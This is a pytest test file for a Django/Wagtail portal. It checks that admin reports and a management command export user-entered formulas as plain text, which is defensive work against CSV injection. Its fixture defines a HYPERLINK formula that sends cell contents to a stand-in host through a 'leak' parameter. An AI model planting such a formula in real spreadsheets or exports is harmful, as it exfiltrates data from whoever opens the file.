"""No CSV export runs what someone typed as a formula: every export of the admin, and the
plain-language command's CSV."""

import csv
import io
from datetime import timedelta

import pytest
from django.core.management import call_command
from django.urls import reverse
from django.utils import timezone
from wagtail.admin.views.mixins import SpreadsheetExportMixin
from wagtail.contrib.search_promotions.models import Query

from accessibility_checks.findings import DEFAULT_TAGS, PageResult
from accessibility_checks.history import record_run
from privacy.spreadsheets import neutralise_formula
from search.models import NoResultQuery

from .. import factories as f

FORMULA = '=HYPERLINK("https://example.org/?leak="&A1, "Click")'


@pytest.mark.parametrize(
    ("cell", "shown"),
    [
        ("=1+1", "'=1+1"),
        ("+34 612", "'+34 612"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("jubilació", "jubilació"),
        ("a=1", "a=1"),
        (-5, -5),
        (None, None),
    ],
)
def test_a_cell_that_a_spreadsheet_would_run_is_shown_as_text(cell, shown):
    assert neutralise_formula(cell) == shown


def csv_cells(response):
    assert response.status_code == 200
    content = b"".join(response.streaming_content).decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(content)) for cell in row]


@pytest.fixture
def admin_client(admin_client, db):
    return admin_client


def test_the_no_results_report_exports_formulas_as_text(admin_client):
    NoResultQuery.objects.create(query_string=FORMULA, language="ca", date=timezone.localdate(), hits=2)
    cells = csv_cells(admin_client.get("/admin/reports/search-no-results/", {"export": "csv"}))
    assert "'" + FORMULA in cells and FORMULA not in cells


def test_the_most_searched_report_and_wagtails_search_terms_export_formulas_as_text(admin_client):
    Query.get(FORMULA).add_hit()
    for url in ("/admin/reports/most-searched/", reverse("wagtailsearchpromotions:search_terms")):
        cells = csv_cells(admin_client.get(url, {"export": "csv"}))
        assert "'" + FORMULA.lower() in cells and FORMULA.lower() not in cells, url


@pytest.fixture
def formula_page(site_tree):
    return f.ProcedurePageFactory(parent=site_tree.procedure_index, title="=2+5", slug="formula")


@pytest.mark.parametrize("report", ["/admin/reports/plain-language/", "/admin/reports/translations/"])
def test_the_page_reports_export_a_formula_title_as_text(admin_client, formula_page, report):
    cells = csv_cells(admin_client.get(report, {"export": "csv"}))
    assert "'=2+5" in cells and "=2+5" not in cells


def test_the_accessibility_report_exports_a_formula_title_as_text(admin_client, site_tree):
    page = PageResult("http://127.0.0.1:8765/ca/", lang="ca", title="@cmd", error="-1 and =2")
    record_run(
        [page], level="minor", tags=DEFAULT_TAGS, seconds=1.0, started_at=timezone.now() - timedelta(1)
    )
    cells = csv_cells(admin_client.get("/admin/reports/accessibility/", {"export": "csv"}))
    assert {"'@cmd", "'-1 and =2"} <= set(cells)


def test_xlsx_exports_keep_a_formula_as_text(admin_client):
    from openpyxl import load_workbook

    NoResultQuery.objects.create(query_string=FORMULA, language="ca", date=timezone.localdate(), hits=1)
    response = admin_client.get("/admin/reports/search-no-results/", {"export": "xlsx"})
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    [cell] = [cell for row in sheet.iter_rows() for cell in row if cell.value == FORMULA]
    assert cell.data_type == "s"


def test_the_plain_language_command_writes_formulas_as_text(formula_page):
    out = io.StringIO()
    call_command("plain_language_report", format="csv", stdout=out)
    cells = [cell for row in csv.reader(io.StringIO(out.getvalue())) for cell in row]
    assert "'=2+5" in cells and "=2+5" not in cells


def project_export_views():
    def subclasses(cls):
        for subclass in cls.__subclasses__():
            yield subclass
            yield from subclasses(subclass)

    return {
        cls
        for cls in subclasses(SpreadsheetExportMixin)
        if not cls.__module__.startswith(("wagtail", "tests"))
    }


def test_no_export_of_the_portal_writes_csv_cells_its_own_way():
    # The neutraliser sits in the mixin's preprocess_field_value; a view that overrides it, or
    # writes rows without it, would bypass it.
    assert {cls.__module__ for cls in project_export_views()} >= {"search.reports", "plain_language.reports"}
    for view in project_export_views():
        assert view.preprocess_field_value is SpreadsheetExportMixin.preprocess_field_value, view
        assert "write_csv_row" not in vars(view), view
